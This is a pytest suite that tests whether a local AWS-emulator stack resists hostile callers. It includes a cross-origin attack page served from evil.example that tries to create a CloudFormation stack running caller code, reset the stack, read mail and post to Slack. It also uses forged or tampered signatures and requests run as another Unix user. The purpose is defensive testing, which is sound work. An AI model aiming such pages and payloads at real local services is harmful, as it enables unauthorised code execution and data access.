"""Who cannot use the local stack: a page that the developer opens, another user of the machine, and who has another key.

What Chromium sends goes through a `carrier`, which sees that it was sent, and how it was answered.
"""

import hashlib
import json
import os
import queue
import re
import sys
import traceback
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
from botocore.auth import HmacV1QueryAuth, S3SigV4Auth, S3SigV4QueryAuth, SigV4Auth, SigV4QueryAuth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
from botocore.exceptions import ClientError

from tests.browser.runner import chromium
from tests.e2e.test_browser import Quiet, Seen, browsing, carrier, serving
from tests.support.e2e.api import Api
from tests.support.e2e.waiting import until
from tests.support.patience import PATIENCE
from tools.stack import emulating
from waitpoints_local import slack_stand_in
from waitpoints_local.stack import Emulator, Endpoint, Stack, free_port

SIGNED = urlencode(
    {
        "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
        "X-Amz-Credential": "test/20261129/us-east-1/cloudformation/aws4_request",
        "X-Amz-Date": "20261129T000000Z",
        "X-Amz-SignedHeaders": "host",
        "X-Amz-Signature": "0",
    }
)
EVIL = "http://evil.example"
RESOLVED = "--host-resolver-rules=MAP *.example 127.0.0.1"
PAGE = """<!doctype html><form method=post></form><script type=module>
const job = JOB;
const post = {method: 'POST', mode: 'no-cors', headers: {'content-type': 'text/plain'}};
const loaded = (name, src) => new Promise(done => {
  const it = document.createElement(name);
  it.onload = it.onerror = done;
  it.src = src;
  document.body.append(it);
});
const report = {};
for (const [name, attempt] of Object.entries({
  script: () => fetch(`${job.at}/?by=script&${job.signed}`, {...post, body: job.create}),
  read: async () => (await fetch(`${job.at}/_ministack/ses/messages`)).json(),
  reset: () => fetch(`${job.at}/_ministack/reset`, post),
  clock: () => fetch(`${job.at}/_waitpoints/clock`, {...post, body: '{"execution": "arn"}'}),
  slack: () => fetch(`${job.slack}/api/chat.postMessage`, {...post, body: '{"channel": "#ops", "text": "hello"}'}),
  image: () => loaded('img', `${job.at}/?by=image&${job.signed}&${job.create}`),
  frame: () => loaded('iframe', `${job.at}/?by=frame&${job.signed}&${job.create}`),
})) {
  try { report[name] = await attempt() ?? 'sent'; } catch (error) { report[name] = error.name; }
}
await fetch('/report', {method: 'POST', body: JSON.stringify(report)});
const form = document.forms[0];
form.action = `${job.at}/?by=form&${job.signed}`;
for (const [name, value] of new URLSearchParams(job.create)) {
  form.append(Object.assign(document.createElement('input'), {name, value, type: 'hidden'}));
}
form.submit();
</script>"""


@pytest.fixture(scope="module")
def emulator(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Emulator]:
    with emulating(free_port(), tmp_path_factory.mktemp("emulator")) as emulator:
        emulator.client("s3").create_bucket(Bucket="here")
        yield emulator


def create_stack(marker: Path) -> str:
    """The parameters of a call that makes CloudFormation run code of the caller's."""
    code = f"def handler(event, context):\n    open({str(marker)!r}, 'w').write('was here')\n"
    function = {"Runtime": "python3.13", "Handler": "index.handler", "Role": "arn:aws:iam::000000000000:role/any"}
    resources = {
        "F": {"Type": "AWS::Lambda::Function", "Properties": {**function, "Code": {"ZipFile": code}}},
        "C": {"Type": "Custom::X", "Properties": {"ServiceToken": {"Fn::GetAtt": ["F", "Arn"]}}},
    }
    given = {"Action": "CreateStack", "Version": "2010-05-15", "StackName": "evil", "Capabilities.member.1": "CAPABILITY_IAM"}
    return urlencode({**given, "TemplateBody": json.dumps({"Resources": resources})})


def site(job: Mapping[str, str], reports: "queue.Queue[Any]") -> type[BaseHTTPRequestHandler]:
    class Site(Quiet):
        def give(self) -> None:
            written = json.dumps(job).replace("<", "\\u003c")
            self.reply(200, {"content-type": "text/html"}, PAGE.replace("JOB", written).encode())

        def take(self) -> None:
            reports.put(json.loads(self.read_body()))
            self.reply(204, {}, b"")

        do_GET, do_POST = give, take

    return Site


def test_a_page_that_is_opened_does_and_reads_nothing(emulator: Emulator, tmp_path: Path) -> None:
    seen: list[Seen] = []
    reports: queue.Queue[Any] = queue.Queue()
    with serving(carrier(emulator.url, seen)) as at, slack_stand_in.serving() as workspace:
        job = {"at": at, "slack": workspace.url, "signed": SIGNED, "create": create_stack(tmp_path / "marker")}
        with serving(site(job, reports)) as url:
            page = f"{EVIL}:{urlsplit(url).port}/"
            with browsing(chromium(), tmp_path / "profile", page, RESOLVED):
                report = reports.get(timeout=PATIENCE)
                until(lambda: "by=form" in "".join(one.path for one in seen), "the form was not sent")

    assert report["read"] == "TypeError"
    asked = {(one.method, re.sub(r"&X-Amz.*", "", one.path)) for one in seen}
    assert asked >= {("GET", "/_ministack/ses/messages"), ("POST", "/_ministack/reset"), ("POST", "/_waitpoints/clock")}
    assert asked >= {("POST", "/?by=script"), ("GET", "/?by=image"), ("GET", "/?by=frame"), ("POST", "/?by=form")}
    assert {(one.status, *_cors(one)) for one in seen} == {(403,)}
    assert (workspace.calls, workspace.messages) == ([], [])
    assert emulator.client("cloudformation").describe_stacks()["Stacks"] == []
    assert [one["Name"] for one in emulator.client("s3").list_buckets()["Buckets"]] == ["here"]
    assert not (tmp_path / "marker").exists()


def _cors(seen: Seen) -> list[str]:
    return [name for name in seen.answer_headers if name.startswith("access-control-")]


def test_a_name_that_leads_here_reads_nothing(emulator: Emulator, tmp_path: Path) -> None:
    seen: list[Seen] = []
    with serving(carrier(emulator.url, seen)) as at:
        rebound = f"{EVIL}:{urlsplit(at).port}/_ministack/ses/messages"
        with browsing(chromium(), tmp_path, rebound, RESOLVED):
            until(lambda: seen, "nothing was sent")
    assert (seen[0].headers["host"], seen[0].status) == (urlsplit(rebound).netloc, 403)


CALLS = {
    "cloudformation": "list_stacks",
    "lambda": "list_functions",
    "secretsmanager": "list_secrets",
    "s3": "list_buckets",
    "sts": "get_caller_identity",
    "sqs": "list_queues",
    "stepfunctions": "list_state_machines",
}


HINT = "`waitpoints env` prints the credentials of the local stack"
S3S_OWN = "SignatureDoesNotMatch|InvalidAccessKeyId"


@pytest.mark.parametrize(("service", "call"), CALLS.items())
def test_only_the_runs_own_key_pair_opens_the_stack(stack: Stack, service: str, call: str) -> None:
    getattr(stack.client(service), call)()
    key_id, secret = stack.access_key_id, stack.secret_access_key
    for pair in (("test", "test"), ("000000000000", "test"), (key_id, "test"), (f"{key_id[:-1]}x", secret)):
        with pytest.raises(ClientError, match=S3S_OWN if service == "s3" else HINT) as refused:
            getattr(Endpoint(stack.endpoint_url, *pair).client(service), call)()
        assert refused.value.response["ResponseMetadata"]["HTTPStatusCode"] in (400, 403)


def test_a_presigned_url_opens_what_it_was_made_for(stack: Stack, api: Api) -> None:
    """A large output's has a role's credentials. One that the developer makes has the root user's id, but not its secret."""
    token = api.create()
    api.deliver(token, '"' * 1_550_000)
    presigned = api.request("GET", f"/api/v1/packets/{api.retrieve(token)['output']}").json["presignedUrl"]
    assert api.send(presigned, method="GET").status == 200
    assert api.send(presigned, headers={"Sec-Fetch-Site": "none"}, method="GET").status == 200
    assert stack.access_key_id not in presigned
    assert parse_qs(urlsplit(presigned).query)["X-Amz-Credential"][0].startswith("ASIA")
    forged = re.sub(r"(?<=X-Amz-Signature=)....", "0000", presigned)
    for changed in (forged, presigned.replace("?", "x?"), presigned.partition("?")[0]):
        assert api.send(changed, method="GET").status in (400, 403)

    mine = stack.client("s3")
    mine.create_bucket(Bucket="mine")
    mine.put_object(Bucket="mine", Key="one", Body=b"1")
    made = mine.generate_presigned_url("get_object", Params={"Bucket": "mine", "Key": "one"})
    assert api.send(made, method="GET").body == b"1"
    assert api.send(made.replace("/one", "/other"), method="GET").status == 403


TARGET = {"X-Amz-Target": "secretsmanager.ListSecrets", "Content-Type": "application/x-amz-json-1.1"}
IDENTITY = b"Action=GetCallerIdentity&Version=2011-06-15"
OF_NOTHING, OF_IDENTITY = (hashlib.sha256(body).hexdigest() for body in (b"", IDENTITY))


@pytest.mark.parametrize("given_to", ["root", "a role"])
def test_what_one_call_was_signed_for_opens_no_other(stack: Stack, api: Api, given_to: str) -> None:
    pair = Credentials(stack.access_key_id, stack.secret_access_key)
    if given_to == "a role":
        role = stack.client("sts").assume_role(RoleArn=stack.machine_role_arn, RoleSessionName="test")["Credentials"]
        pair = Credentials(role["AccessKeyId"], role["SecretAccessKey"], role["SessionToken"])

    def signed(signer: Any, method: str, path: str, body: bytes = b"", **headers: str) -> tuple[str, dict[str, str]]:
        request = AWSRequest(method, f"{stack.endpoint_url}{path}", data=body, headers=headers)
        signer.add_auth(request)
        return str(request.url), {name: str(value) for name, value in request.headers.items()}

    form = {"Content-Type": "application/x-www-form-urlencoded"}
    posted, header = signed(SigV4Auth(pair, "sts", "us-east-1"), "POST", "/", IDENTITY, **form)
    assert api.send(posted, IDENTITY, header).status == 200
    link, _ = signed(S3SigV4QueryAuth(pair, "s3", "us-east-1"), "GET", f"/{stack.output_bucket}/one")
    old_link, _ = signed(HmacV1QueryAuth(pair), "GET", f"/{stack.output_bucket}/one")
    asking, _ = signed(SigV4QueryAuth(pair, "sts", "us-east-1"), "GET", f"/?{IDENTITY.decode()}")
    object_url, for_object = signed(S3SigV4Auth(pair, "s3", "us-east-1"), "GET", f"/{stack.output_bucket}/one")

    tampered: dict[str, tuple[Any, ...]] = {
        "another body": (posted, b"Action=GetSessionToken&Version=2011-06-15", header, "POST"),
        "its body's hash": (posted, b"Action=GetSessionToken", {**header, "x-amz-content-sha256": OF_IDENTITY}, "POST"),
        "another service": (posted, b"{}", {**header, **TARGET, "x-amz-content-sha256": OF_IDENTITY}, "POST"),
        "a link": (link, b"{}", TARGET, "GET"),
        "an old link": (old_link, b"{}", TARGET, "GET"),
        "a link of STS": (asking, b"{}", {**TARGET, "x-amz-content-sha256": OF_NOTHING}, "GET"),
        "an object's header": (object_url, b"{}", {**for_object, **TARGET}, "GET"),
        "a link and a header": (link, IDENTITY, header, "POST"),
    }
    for name, (*sent, method) in tampered.items():
        answer = api.send(*sent, method=method)
        assert (answer.status in (400, 403), b"Does" in answer.body or b"Invalid" in answer.body) == (True, True), name


@pytest.mark.filterwarnings("ignore:.*multi-threaded, use of fork:DeprecationWarning")  # the child only sends requests
def test_another_user_of_the_machine_does_and_reads_nothing(stack: Stack, stack_folder: Path, api: Api, tmp_path: Path) -> None:
    if os.getuid() != 0:
        pytest.skip("only root can be somebody else")
    url = stack.endpoint_url

    def attempts() -> dict[str, Any]:
        found: dict[str, Any] = {"uid": os.getuid()}
        for file in (*stack_folder.glob("stack*.json"), stack_folder / "emulator.log"):
            found[file.name] = os.access(file, os.R_OK)
        found["create"] = api.send(f"{url}/?{SIGNED}&{create_stack(tmp_path / 'marker')}").status
        found["mails"] = api.send(f"{url}/_ministack/ses/messages", method="GET").status
        found["reset"] = api.send(f"{url}/_ministack/reset").status
        found["clock"] = api.send(f"{url}/_waitpoints/clock").status
        found["unsigned"] = api.send(f"{url}/{stack.output_bucket}", method="GET").status
        return found

    found = as_nobody(attempts)
    assert found.pop("uid") == 65534
    files = {name: found.pop(name) for name in list(found) if "." in name}
    assert (set(files) > {"stack.json", "emulator.log"}, set(files.values())) == (True, {False})
    assert found == dict.fromkeys(found, 403)
    assert "evil" not in {one["StackName"] for one in stack.client("cloudformation").describe_stacks()["Stacks"]}


def as_nobody(run: Callable[[], Any]) -> Any:
    """Run something in a process of the user `nobody`. Returns what it returns."""
    reader, writer = os.pipe()
    if (child := os.fork()) == 0:
        try:
            os.setgroups([])
            os.setresgid(65534, 65534, 65534)
            os.setresuid(65534, 65534, 65534)
            os.write(writer, json.dumps(run()).encode())
        except BaseException:
            os.write(writer, json.dumps(traceback.format_exc()).encode())
        finally:
            os._exit(0)
    os.close(writer)
    with open(reader) as answer:
        said = json.load(answer)
    os.waitpid(child, 0)
    return said


def processes_of(port: int) -> list[int]:
    """The processes of the stack on a port: the group of that which listens there."""
    [listener] = {pid for pid, (address, its_port) in listeners() if its_port == port}
    group = os.getpgid(listener)
    return [int(each.name) for each in Path("/proc").glob("[0-9]*") if _group_of(int(each.name)) == group]


def _group_of(pid: int) -> int:
    with suppress(OSError):
        return os.getpgid(pid)
    return 0


def listeners() -> Iterator[tuple[int, tuple[str, int]]]:
    """Each process that listens, with an address in hexadecimal digits and a port (proc(5), /proc/net/tcp)."""
    by_inode: dict[str, tuple[str, int]] = {}
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/net", table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":
                address, _, port = fields[1].partition(":")
                by_inode[fields[9]] = (address, int(port, 16))
    for link in Path("/proc").glob("[0-9]*/fd/*"):
        with suppress(OSError):
            if (found := re.fullmatch(r"socket:\[(\d+)\]", os.readlink(link))) and found[1] in by_inode:
                yield int(link.parts[2]), by_inode[found[1]]


LOOPBACK = ("0100007F", "00000000000000000000000001000000")


@pytest.mark.skipif(sys.platform != "linux", reason="it looks into /proc")
def test_nothing_listens_but_on_loopback_and_no_argument_or_log_has_the_key(stack: Stack, stack_folder: Path, api: Api) -> None:
    api.create()
    group = set(processes_of(stack.port))
    assert len(group) > 1  # functions, too
    assert {address for pid, (address, _) in listeners() if pid in group} <= set(LOOPBACK)
    assert {port for pid, (_, port) in listeners() if pid in group} >= {stack.port}
    told = b"".join(Path("/proc", str(pid), "cmdline").read_bytes() for pid in group)
    written = [file for file in stack_folder.rglob("*") if file.is_file() and not file.name.startswith("stack.")]
    assert len(written) > 1
    for secret in (stack.access_key_id.encode(), stack.secret_access_key.encode()):
        assert secret not in told
        assert [file for file in written if secret in file.read_bytes()] == []
